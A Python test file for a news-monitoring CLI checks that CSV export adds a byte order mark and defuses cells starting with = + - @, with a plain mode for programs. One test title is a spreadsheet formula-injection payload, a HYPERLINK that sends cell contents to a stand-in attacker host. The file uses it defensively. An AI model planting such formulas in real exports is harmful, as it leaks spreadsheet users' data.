"""`veille export --format csv` is for spreadsheets: the file begins with a UTF-8 byte order mark
(without it Excel read Arabic titles in the machine's code page, garbled) and a cell a
spreadsheet would run as a formula (a title beginning with = + - @) gets a leading '; with
--plain-csv every value is written as it is, without the mark, for programs."""

from __future__ import annotations

import csv
import io

from click.testing import CliRunner

from crawler.core.normalize import content_hash
from crawler.storage import store
from monitors.alerts.outbox import match_pending
from monitors.cli import cli
from monitors.service.watchlists import load_watchlists

RULES = "watchlists:\n  - name: cloud\n    title: Cloud\n    terms: [cloud, سحابية]\n"
TITLES = [
    '=HYPERLINK("http://attaquant.example/?d="&A1;"Le cloud")',
    "+33 % pour le cloud marocain",
    "-5 % : le cloud ralentit",
    "@SUM(1+1) cloud",
    "المغرب يطلق الحوسبة السحابية الوطنية",
    "Le cloud souverain avance",
]


def make_db(folder):
    rules = folder / "w.yaml"
    rules.write_text(RULES, encoding="utf-8")
    db = store.open_database(folder / "v.db")
    db.execute("INSERT INTO sources(name) VALUES ('presse')")
    articles = []
    for number, title in enumerate(TITLES):
        text = f"{title}. " + " ".join(f"mot{number}x{i}" for i in range(60)) + "."
        articles.append(
            store.StoredArticle(
                "presse", f"https://presse.example.ma/{number}", title, None,
                f"2026-11-2{number}T10:00:00Z", "ar" if number == 4 else "fr", None, None,
                text, content_hash(text),
            )
        )  # fmt: skip
    store.store_articles(db, articles)
    match_pending(db, *load_watchlists(rules), max_age=None)
    db.close()
    return ["--db", str(folder / "v.db"), "--watchlists", str(rules), "export"]


def titles(data: bytes, encoding: str) -> list[str]:
    return sorted(row["title"] for row in csv.DictReader(io.StringIO(data.decode(encoding))))


def test_the_csv_export_is_for_spreadsheets_unless_asked_plain(tmp_path):
    base = make_db(tmp_path)
    out = tmp_path / "m.csv"
    result = CliRunner().invoke(cli, [*base, "-o", str(out)])
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfmatched_at,")
    assert titles(data, "utf-8-sig") == sorted(
        [
            "'" + TITLES[0],
            "'" + TITLES[1],
            "'" + TITLES[2],
            "'" + TITLES[3],
            TITLES[4],
            TITLES[5],
        ]
    )
    answer = CliRunner().invoke(cli, base)  # the same on the standard output
    assert answer.exit_code == 0 and answer.stdout_bytes == data
    plain = CliRunner().invoke(cli, [*base, "--plain-csv"])
    assert plain.exit_code == 0, plain.output
    assert plain.stdout_bytes.startswith(b"matched_at,")
    assert titles(plain.stdout_bytes, "utf-8") == sorted(TITLES)
